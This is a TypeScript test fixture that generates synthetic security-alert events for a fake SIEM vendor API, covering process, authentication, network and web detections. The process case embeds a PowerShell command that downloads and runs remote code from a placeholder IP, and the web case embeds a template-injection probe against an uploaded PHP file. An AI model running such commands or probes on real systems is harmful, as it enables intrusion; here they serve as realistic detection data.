import type { JsonObject } from "#sdk/fake-vendor/json.ts";
import { base62, type Prng } from "#sdk/fake-vendor/prng.ts";
import type { FakeRule } from "./rule-list.ts";

export interface EventSubject {
  rule: FakeRule;
  shortId: string;
  entity: { uuid: string; name: string };
  communityUuid: string;
  source: string | null;
  host: string;
  user: string;
}

/** Intakes are fixed for a whole fake: the keys are secrets, and a leak of one is looked for by its value. */
export interface FakeIntake {
  uuid: string;
  name: string;
  key: string;
  dialect: string;
  dialectUuid: string;
}

export function makeIntakes(prng: Prng): FakeIntake[] {
  return ["Windows agents", "VPN gateways", "Proxies (Lyon)"].map((name) => ({
    uuid: prng.uuid(),
    name,
    key: prng.text(16, base62),
    dialect: name.toLowerCase(),
    dialectUuid: prng.uuid(),
  }));
}

/** One event: a flat object with dotted ECS keys, as the vendor's search gives it. */
export function makeEvent(prng: Prng, subject: EventSubject, intake: FakeIntake, at: number): JsonObject {
  const eventId = prng.uuid();
  return {
    __event_id: Buffer.from(`events-${subject.communityUuid}-${eventId}`).toString("base64"),
    timestamp: new Date(at).toISOString(),
    "event.created": new Date(at + prng.int(200, 20_000)).toISOString().replace("Z", "+00:00"),
    "event.id": eventId,
    "event.dialect": intake.dialect,
    "event.dialect_uuid": intake.dialectUuid,
    alert_short_ids: [subject.shortId],
    "host.name": subject.host,
    "user.name": subject.user,
    "related.hosts": [subject.host],
    "related.user": [subject.user],
    ...(subject.source === null ? {} : { "source.ip": subject.source, "related.ip": [subject.source] }),
    ...makeDetail(prng, subject),
    "entity.name": subject.entity.name,
    "entity.id": subject.entity.uuid.slice(0, 8),
    "entity.uuid": subject.entity.uuid,
    "customer.intake_key": intake.key,
    "customer.intake_uuid": intake.uuid,
    "customer.intake_name": intake.name,
    "customer.community_name": "Harbour",
    "customer.community_uuid": subject.communityUuid,
    "customer.id": "Harbour",
    "sekoiaio.intake.uuid": intake.uuid,
    "sekoiaio.intake.name": intake.name,
    "sekoiaio.intake.key": intake.key,
    "sekoiaio.intake.dialect": intake.dialect,
    "sekoiaio.intake.dialect_uuid": intake.dialectUuid,
    "sekoiaio.intake.parsing_status": "success",
    "sekoiaio.entity.name": subject.entity.name,
    "sekoiaio.entity.uuid": subject.entity.uuid,
    "sekoiaio.customer.community_uuid": subject.communityUuid,
    "sekoiaio.any_asset.name": [[subject.host], [subject.user]],
    "sekoiaio.any_asset.criticality_value": [[prng.int(0, 100)], [0]],
    "sekoiaio.tags.source.ip": ["rfc1918"],
  };
}

function makeDetail(prng: Prng, subject: EventSubject): JsonObject {
  switch (subject.rule.events) {
    case "process":
      return {
        message: `4688 A new process has been created.\r\n\tCreator: ${subject.user}`,
        "event.category": ["process"],
        "event.type": ["start"],
        "event.action": "process-created",
        "event.outcome": "success",
        "action.id": 4688,
        "process.name": "powershell.exe",
        "process.pid": prng.int(400, 60_000),
        "process.command_line": `"C:\\Windows\\System32\\powershell.exe" -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.${prng.int(1, 254)}/a')"`,
        "process.parent.name": prng.pick(["explorer.exe", "winword.exe", "svchost.exe"]),
        "file.hash.sha256": prng.text(64, "0123456789abcdef"),
        "host.os.type": "windows",
      };
    case "authentication":
      return {
        message: `Échec d'authentification pour « ${subject.user} »`,
        "event.category": ["authentication"],
        "event.type": ["start"],
        "event.action": "logon",
        "event.outcome": prng.pick(["success", "failure"]),
        "action.properties.LogonType": 3,
        "source.geo.country_iso_code": prng.pick(["BR", "NO", "VN", "CA"]),
      };
    case "network":
      return {
        message: "ACCEPT tcp",
        "event.category": ["network"],
        "event.type": ["connection"],
        "event.action": "accept",
        "source.port": prng.int(1024, 65_535),
        "destination.ip": `203.0.113.${prng.int(1, 254)}`,
        "destination.port": prng.pick([53, 443, 8443]),
        "destination.domain": "cdn-update.example",
        "network.bytes": prng.int(100, 9_000_000_000),
        "dns.question.name": "cdn-update.example",
      };
    case "web":
      return {
        message: 'GET /uploads/x.php?c={{7*7}} HTTP/1.1" 200',
        "event.category": ["web"],
        "event.type": ["access"],
        "event.action": "GET",
        "http.request.method": "GET",
        "http.response.status_code": 200,
        "url.original": `https://portal.example/uploads/x.php?c=%7B%7B7*7%7D%7D&id=${prng.int(1, 999)}`,
        "url.domain": "portal.example",
        "user_agent.original": "Mozilla/5.0 (compatible)",
        "sekoiaio.is_known": true,
      };
  }
}
